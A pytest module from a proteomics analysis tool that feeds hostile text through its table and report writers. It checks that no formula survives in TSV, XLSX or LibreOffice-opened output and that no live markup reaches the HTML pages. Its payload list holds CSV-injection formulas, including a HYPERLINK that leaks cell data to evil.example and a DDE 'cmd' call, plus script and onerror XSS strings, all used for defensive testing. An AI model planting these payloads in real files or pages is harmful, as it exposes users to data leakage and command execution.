"""Hostile content from input files (formulas, script payloads, control and bidi characters, very long
names) through every command that writes tables or pages: no formula in any TSV or XLSX, even as
LibreOffice opens it; no live markup in the HTML."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import run_main

from secretome import datasets
from secretome.tables import FORMULA_TRIGGERS, is_formula_like, write_xlsx

SCRIPT = "<script>alert('x')</script>"
IMAGE = "<img src=x onerror=alert(1)>"
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    SCRIPT,
    IMAGE,
    "\u202eevil.exe\u202c",
    "bell\x07here",
    "L" * 5000,
]


@pytest.fixture(scope="module")
def hostile_inputs(tmp_path_factory) -> dict[str, Path]:
    """The demo dataset with payloads in gene names, protein names, headers and a sample-sheet column."""
    root = tmp_path_factory.mktemp("hostile_content")
    paths = datasets.demo_paths()
    table = pd.read_csv(paths["table"], sep="\t", dtype=str, keep_default_na=False)
    for i, payload in enumerate(PAYLOADS):
        table.loc[i, "Gene names"] = payload
        table.loc[len(PAYLOADS) + i, "Protein names"] = payload
    table.to_csv(root / "proteinGroups.txt", sep="\t", index=False)
    sheet = pd.read_csv(paths["samples"], sep="\t", dtype=str, keep_default_na=False)
    sheet["donor"] = [PAYLOADS[i % len(PAYLOADS)].replace("\x07", "") for i in range(len(sheet))]
    sheet.to_csv(root / "samples.tsv", sep="\t", index=False)
    return {"root": root, "table": root / "proteinGroups.txt", "sheet": root / "samples.tsv"}


@pytest.fixture(scope="module")
def outputs(hostile_inputs, tmp_path_factory) -> dict[str, Path]:
    """Every command that writes a table or a page, run once on the hostile inputs."""
    monkeypatch = pytest.MonkeyPatch()
    capsys = _Silent()
    root = tmp_path_factory.mktemp("hostile_outputs")
    table, sheet = hostile_inputs["table"], hostile_inputs["sheet"]
    runs = {
        "profile": ["profile", table, "--samples", sheet, "--group", "lot", "--out", root / "profile"],
        "compare": ["compare", table, "--samples", sheet, "--design", "~ lot", "--contrast", "lot_B-lot_A",
                    "--out", root / "compare"],
        "comparability": ["comparability", table, "--samples", sheet, "--reference", "lot_A", "--out", root / "lots"],
        "annotate": ["annotate", table, "--out", root / "annotation.tsv"],
    }
    for name, args in runs.items():
        code, _, err = run_main(monkeypatch, capsys, *args)
        assert code == 0, f"{name}: {err}"
    monkeypatch.undo()
    xlsx = root / "tables.xlsx"
    write_xlsx({"proteins": pd.read_csv(root / "profile" / "proteins.tsv", sep="\t", dtype=str),
                "payloads": pd.DataFrame({"text": PAYLOADS, "number": np.arange(len(PAYLOADS)) - 3.5})}, xlsx)
    return {"root": root, "xlsx": xlsx}


class _Silent:
    """A stand-in for pytest's capsys in a module-scoped fixture (run_main only reads it back)."""

    class _Captured:
        out = err = ""

    def readouterr(self) -> "_Silent._Captured":
        return self._Captured()


def _tsv_files(root: Path) -> list[Path]:
    return sorted(root.rglob("*.tsv"))


def test_every_output_table_holds_no_formula_like_cell(outputs):
    files = _tsv_files(outputs["root"])
    assert {p.name for p in files} >= {"proteins.tsv", "samples.tsv", "differential_lot_B-lot_A.tsv", "comparability_factors.tsv", "annotation.tsv"}
    found = []
    for path in files:
        with open(path, encoding="utf-8", newline="") as handle:
            for row_number, row in enumerate(csv.reader(handle, delimiter="\t"), start=1):
                found += [f"{path.name}:{row_number}: {cell[:40]!r}" for cell in row if is_formula_like(cell)]
    assert not found, "\n".join(found[:20])


def test_the_payloads_reach_the_tables_neutralised_not_lost(outputs):
    proteins = (outputs["root"] / "profile" / "proteins.tsv").read_text(encoding="utf-8")
    contrast = (outputs["root"] / "compare" / "differential_lot_B-lot_A.tsv").read_text(encoding="utf-8")
    assert "'=1+1" in proteins and "'@SUM(1+1)" in proteins and "L" * 5000 in proteins
    # compare annotates first (as profile does): its gene column holds the knowledge base's symbols, and any
    # input text that does reach it is neutralised
    assert "=1+1" not in contrast.replace("'=1+1", "") and "=HYPERLINK(" not in contrast.replace("'=HYPERLINK(", "")
    assert "\tORM1\t" in contrast



def test_no_payload_is_live_markup_in_any_page(outputs):
    pages = sorted(outputs["root"].rglob("*.html"))
    assert {p.relative_to(outputs["root"]).as_posix() for p in pages} >= {
        "profile/report.html", "compare/report.html", "lots/report.html"}
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert SCRIPT not in html and IMAGE not in html, page.name


def test_xlsx_cells_from_text_are_text(outputs):
    from openpyxl import load_workbook

    workbook = load_workbook(outputs["xlsx"])
    formulas = [(sheet.title, cell.coordinate) for sheet in workbook for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert not formulas
    texts = [cell.value for cell in workbook["payloads"]["A"][1:]]
    assert texts[:6] == PAYLOADS[:6]  # kept exactly, as text cells


def _soffice() -> str:
    path = shutil.which("soffice") or shutil.which("libreoffice")
    if path is None:
        pytest.skip("needs LibreOffice (Debian libreoffice-calc-nogui) to open the outputs as a spreadsheet user would")
    return path


def _convert(soffice: str, files: list[Path], out: Path, profile: Path, infilter: str | None) -> None:
    command = [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", "fods", "--outdir", str(out), *map(str, files)]
    run = subprocess.run(command, capture_output=True, text=True, timeout=300, env={**os.environ, "HOME": str(profile)})
    assert run.returncode == 0, run.stderr


def test_libreoffice_finds_no_formula_in_any_output(outputs, tmp_path):
    soffice = _soffice()
    converted = tmp_path / "converted"
    tables = _tsv_files(outputs["root"])
    _convert(soffice, tables, converted, tmp_path / "lo-profile", "Text - txt - csv (StarCalc):9,34,76,1")
    _convert(soffice, [outputs["xlsx"]], converted, tmp_path / "lo-profile", None)
    documents = sorted(converted.glob("*.fods"))
    assert len(documents) == len({p.stem for p in tables} | {"tables"})
    live = [doc.name for doc in documents if "table:formula=" in doc.read_text(encoding="utf-8")]
    assert not live, f"LibreOffice evaluated formulas in {live}"


def test_the_libreoffice_check_would_see_a_formula(tmp_path):
    """The check above can fail: an unneutralised table does hold a live formula for LibreOffice."""
    soffice = _soffice()
    raw = tmp_path / "raw.tsv"
    raw.write_text("gene\tvalue\n=1+1\t2\n", encoding="utf-8")
    _convert(soffice, [raw], tmp_path / "out", tmp_path / "lo-profile", "Text - txt - csv (StarCalc):9,34,76,1")
    assert "table:formula=" in (tmp_path / "out" / "raw.fods").read_text(encoding="utf-8")


def test_trigger_characters_are_the_owasp_set():
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
